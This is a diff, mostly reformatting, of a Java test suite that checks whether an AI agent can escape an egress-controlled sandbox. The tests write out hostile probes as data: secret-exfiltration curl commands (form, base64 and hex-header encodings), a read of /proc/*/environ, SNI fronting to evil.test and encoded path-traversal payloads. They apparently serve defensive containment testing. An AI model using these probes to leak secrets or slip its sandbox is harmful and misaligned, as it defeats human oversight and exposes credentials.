@@ -53,12 +53,13 @@ import org.junit.jupiter.api.TestInstance;
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 public abstract class SandboxEscapeSuite {
     /** The names the upstream answers to. */
-    protected static final List<String> NAMES = List.of("api.allowed.test", "www.allowed.test", "evil.test",
-            "late.allowed.test", "pinned.allowed.test");
+    protected static final List<String> NAMES =
+            List.of("api.allowed.test", "www.allowed.test", "evil.test", "late.allowed.test", "pinned.allowed.test");
 
     private final String token = "tok-" + HexFormat.of().formatHex(new SecureRandom().generateSeed(12));
     /** A secret the agent can read (a forwarded variable), which must not leave through any allowed host. */
     private final String leak = "leak-" + HexFormat.of().formatHex(new SecureRandom().generateSeed(12));
+
     private long idleBundleMemory;
     private Path home;
     private RunningBottle bottle;
@@ -106,26 +107,41 @@ public abstract class SandboxEscapeSuite {
         Files.writeString(anchors, ca.certificatePem());
         Manifest m = Manifest.builder()
                 .bottle(BottleDefinition.builder("escape")
-                        .route(EgressRoute.to("api.allowed.test").withPaths("/v1/").withAuth(RouteAuth.bearer("ESCAPE_TOKEN")))
+                        .route(EgressRoute.to("api.allowed.test")
+                                .withPaths("/v1/")
+                                .withAuth(RouteAuth.bearer("ESCAPE_TOKEN")))
                         .route(EgressRoute.to("www.allowed.test"))
                         .route(EgressRoute.to("pinned.allowed.test").passthrough())
                         .env("LEAKME", EnvValue.parse("${ESCAPE_SECRET}"))
-                        .supervise(true).build())
-                .agent(AgentDefinition.builder("escaper").bottle("escape").build()).build();
+                        .supervise(true)
+                        .build())
+                .agent(AgentDefinition.builder("escaper").bottle("escape").build())
+                .build();
         Map<String, String> settings = new LinkedHashMap<>(settings(TestImages.probeAgent()));
         settings.put(Egress.EXTRA_CA_SETTING, anchors.toString());
-        BottleSpec spec = BottleSpec.builder("escaper").manifest(m).home(home).userCwd(home)
-                .hostEnvironment(Map.of("ESCAPE_TOKEN", token, "ESCAPE_SECRET", leak)).settings(settings)
+        BottleSpec spec = BottleSpec.builder("escaper")
+                .manifest(m)
+                .home(home)
+                .userCwd(home)
+                .hostEnvironment(Map.of("ESCAPE_TOKEN", token, "ESCAPE_SECRET", leak))
+                .settings(settings)
                 .approvals(p -> CompletableFuture.completedFuture(
-                        p.route() != null && p.route().host().equals("late.allowed.test") ? Decision.approve()
+                        p.route() != null && p.route().host().equals("late.allowed.test")
+                                ? Decision.approve()
                                 : Decision.reject("only late.allowed.test may be added")))
                 .build();
-        TestImages.removeAtExitIfNew(BundleImages.describe(engine,
-                new Settings(settings, Map.of())).reference());
+        TestImages.removeAtExitIfNew(
+                BundleImages.describe(engine, new Settings(settings, Map.of())).reference());
         bottle = Bottles.using(backend()).prepare(spec).launch();
 
-        upstream = UpstreamContainer.start(engine, TestImages.upstream(),
-                bottle.identity(), outboundNetwork(bottle), NAMES, certsTar(ca), "upstream ready");
+        upstream = UpstreamContainer.start(
+                engine,
+                TestImages.upstream(),
+                bottle.identity(),
+                outboundNetwork(bottle),
+                NAMES,
+                certsTar(ca),
+                "upstream ready");
         upstreamIp = upstream.ip();
         idleBundleMemory = engine.memoryUsage(DockerBundles.bundleContainerName(bottle.identity()));
     }
@@ -134,7 +150,8 @@ public abstract class SandboxEscapeSuite {
     void tearDown() {
         if (bottle != null) {
             long busy = engine.memoryUsage(DockerBundles.bundleContainerName(bottle.identity()));
-            System.out.printf("bundle memory: %.1f MiB idle after launch, %.1f MiB after the escape suite%n",
+            System.out.printf(
+                    "bundle memory: %.1f MiB idle after launch, %.1f MiB after the escape suite%n",
                     idleBundleMemory / 1048576.0, busy / 1048576.0);
         }
         UpstreamContainer.tearDown(upstream, bottle, home);
@@ -168,12 +185,14 @@ public abstract class SandboxEscapeSuite {
     private static final String AGENT_USER = "1000";
 
     private String probe(String... args) {
-        List<String> argv = new ArrayList<>(List.of("java", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-jar",
-                "/opt/probe.jar"));
+        List<String> argv = new ArrayList<>(
+                List.of("java", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-jar", "/opt/probe.jar"));
         argv.addAll(List.of(args));
         // MCP clients read the agent's 0600 configuration, as Claude Code does: run them as the agent's user
-        ExecResult r = bottle.exec(argv, new ExecOptions(ExecOptions.DEFAULT_TIMEOUT,
-                args[0].equals("mcp") ? AGENT_USER : null, null, Map.of()));
+        ExecResult r = bottle.exec(
+                argv,
+                new ExecOptions(
+                        ExecOptions.DEFAULT_TIMEOUT, args[0].equals("mcp") ? AGENT_USER : null, null, Map.of()));
         assertEquals(0, r.exitCode(), () -> "probe " + List.of(args) + " crashed: " + r.stderr());
         return r.stdout();
     }
@@ -208,7 +227,8 @@ public abstract class SandboxEscapeSuite {
         for (String allowed : List.of("api.allowed.test:443", "www.allowed.test:443")) {
             String front = probe("front", allowed, "evil.test");
             assertTrue(front.contains("connect=HTTP/1.1 200"), front);
-            assertTrue(front.contains("handshake=failed"), "SNI evil.test inside a tunnel to " + allowed + ": " + front);
+            assertTrue(
+                    front.contains("handshake=failed"), "SNI evil.test inside a tunnel to " + allowed + ": " + front);
         }
         String direct = probe("tcp", upstreamIp, "443");
         assertTrue(direct.startsWith("tcp=failed"), "the agent has no route to the upstream: " + direct);
@@ -220,7 +240,9 @@ public abstract class SandboxEscapeSuite {
         int before = seen().size();
         String out = probe("get", "https://api.allowed.test/v1/models", "Authorization=Bearer fake");
         assertTrue(out.startsWith("status=200\nupstream ok"), out);
-        assertEquals(List.of("https api.allowed.test GET /v1/models Bearer_" + token), seenSince(before),
+        assertEquals(
+                List.of("https api.allowed.test GET /v1/models Bearer_" + token),
+                seenSince(before),
                 "the upstream got the real token, not the agent's");
 
         ExecResult env = sh("cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; env");
@@ -249,10 +271,12 @@ public abstract class SandboxEscapeSuite {
     @Test
     void anApprovedRouteOpensAHostThroughEgressWithoutARestartAndARejectedOneDoesNot() throws Exception {
         int before = seen().size();
-        assertTrue(probe("get", "http://late.allowed.test/early").startsWith("status=403\nblocked: host late.allowed.test"));
-        String asked = probe("mcp", "egress-allow", "{\"host\":\"late.allowed.test\",\"justification\":\"fetch the"
-                + " dataset\"}");
-        assertTrue(asked.startsWith("mcp=200 ") && asked.contains("approved: late.allowed.test is live in egress now"),
+        assertTrue(probe("get", "http://late.allowed.test/early")
+                .startsWith("status=403\nblocked: host late.allowed.test"));
+        String asked = probe(
+                "mcp", "egress-allow", "{\"host\":\"late.allowed.test\",\"justification\":\"fetch the" + " dataset\"}");
+        assertTrue(
+                asked.startsWith("mcp=200 ") && asked.contains("approved: late.allowed.test is live in egress now"),
                 asked);
         String after = probe("get", "http://late.allowed.test/now");
         assertTrue(after.startsWith("status=200\nupstream ok"), "reached without a restart: " + after);
@@ -264,14 +288,17 @@ public abstract class SandboxEscapeSuite {
 
         List<String> audit = Files.readAllLines(home.resolve("audit").resolve("approvals.jsonl"));
         assertEquals(2, audit.size(), audit.toString());
-        assertTrue(audit.get(0).contains("\"verdict\":\"approved\"") && audit.get(0).contains("late.allowed.test"));
-        assertTrue(audit.get(1).contains("\"verdict\":\"rejected\"") && audit.get(1).contains("evil.test"));
+        assertTrue(audit.get(0).contains("\"verdict\":\"approved\"")
+                && audit.get(0).contains("late.allowed.test"));
+        assertTrue(audit.get(1).contains("\"verdict\":\"rejected\"")
+                && audit.get(1).contains("evil.test"));
     }
 
     @Test
     void localhostAndTheBundlesInternalPortsStayClosed() {
         assertTrue(probe("tcp", "127.0.0.1", "9").startsWith("tcp=failed"));
-        assertTrue(probe("tcp", bundleAddress(bottle), "8888").startsWith("tcp=failed"),
+        assertTrue(
+                probe("tcp", bundleAddress(bottle), "8888").startsWith("tcp=failed"),
                 "pipelock's port is never reachable from the agent");
     }
 
@@ -292,8 +319,12 @@ public abstract class SandboxEscapeSuite {
         assertEquals("200", inspected[0], "the agent trusts the egress CA that inspects TLS: " + inspected[1]);
         String[] pinned = curl("-k https://pinned.allowed.test/pinned");
         assertEquals("200", pinned[0], pinned[1]);
-        assertEquals(List.of("http www.allowed.test GET /plain -", "https www.allowed.test GET /inspected -",
-                "https pinned.allowed.test GET /pinned -"), seenSince(before));
+        assertEquals(
+                List.of(
+                        "http www.allowed.test GET /plain -",
+                        "https www.allowed.test GET /inspected -",
+                        "https pinned.allowed.test GET /pinned -"),
+                seenSince(before));
         String[] anonymous = curl("--proxy http://" + bundleAddress(bottle) + ":8080 http://www.allowed.test/anon");
         assertEquals("407", anonymous[0], "without the credential egress refuses: " + anonymous[1]);
         assertEquals(3, seenSince(before).size(), "the refused request never reached the upstream");
@@ -302,9 +333,17 @@ public abstract class SandboxEscapeSuite {
     @Test
     void aPathAllowlistCannotBeWalkedAroundWithAnyEncoding() throws Exception {
         int before = seen().size();
-        for (String path : List.of("/v1/../admin/keys", "/v1/%2e%2e/admin/keys", "/v1/%2E%2e/admin/keys",
-                "/v1/..%2fadmin/keys", "/v1/%2F..%2Fadmin/keys", "/v1/;x/../../admin/keys", "/v1/..;/admin/keys",
-                "/v1/%252e%252e/admin/keys", "/v1/%c0%ae%c0%ae/admin/keys", "/v1//../../admin/keys",
+        for (String path : List.of(
+                "/v1/../admin/keys",
+                "/v1/%2e%2e/admin/keys",
+                "/v1/%2E%2e/admin/keys",
+                "/v1/..%2fadmin/keys",
+                "/v1/%2F..%2Fadmin/keys",
+                "/v1/;x/../../admin/keys",
+                "/v1/..;/admin/keys",
+                "/v1/%252e%252e/admin/keys",
+                "/v1/%c0%ae%c0%ae/admin/keys",
+                "/v1//../../admin/keys",
                 "/v1/%5c..%5cadmin/keys")) {
             String[] r = curl("--path-as-is -H 'Authorization: Bearer fake' 'https://api.allowed.test" + path + "'");
             assertEquals("403", r[0], path + ": " + r[1]);
@@ -325,7 +364,8 @@ public abstract class SandboxEscapeSuite {
         leaks.put("form", "--data-urlencode \"d=$LEAKME\" \"$B/x\"");
         leaks.put("base64 body", "--data-binary \"$(printf %s \"$LEAKME\" | base64)\" \"$B/x\"");
         leaks.put("hex header", "-H \"X-Hex: $(printf %s \"$LEAKME\" | hexdump -ve '1/1 \"%.2x\"')\" \"$B/x\"");
-        for (String base : List.of("http://www.allowed.test", "https://www.allowed.test", "https://api.allowed.test/v1")) {
+        for (String base :
+                List.of("http://www.allowed.test", "https://www.allowed.test", "https://api.allowed.test/v1")) {
             for (Map.Entry<String, String> l : leaks.entrySet()) {
                 String[] r = curl(l.getValue().replace("$B", base));
                 assertEquals("403", r[0], l.getKey() + " to " + base + ": " + r[1]);
@@ -349,8 +389,8 @@ public abstract class SandboxEscapeSuite {
                 + " -d \"$init\" $MCP_SUPERVISE_URL; done;"
                 + " curl -s -o /dev/null -w 'anonymous %{http_code}\\n' -H 'Content-Type: application/json' -d \"$init\""
                 + " $MCP_SUPERVISE_URL; kill $(jobs -p) 2>/dev/null; true";
-        ExecResult r = bottle.exec(List.of("sh", "-c", script), new ExecOptions(Duration.ofSeconds(60),
-                AGENT_USER, null, Map.of()));
+        ExecResult r = bottle.exec(
+                List.of("sh", "-c", script), new ExecOptions(Duration.ofSeconds(60), AGENT_USER, null, Map.of()));
         List<String> lines = r.stdout().lines().toList();
         assertEquals(4, lines.size(), r.stdout() + r.stderr());
         for (String l : lines.subList(0, 3)) {
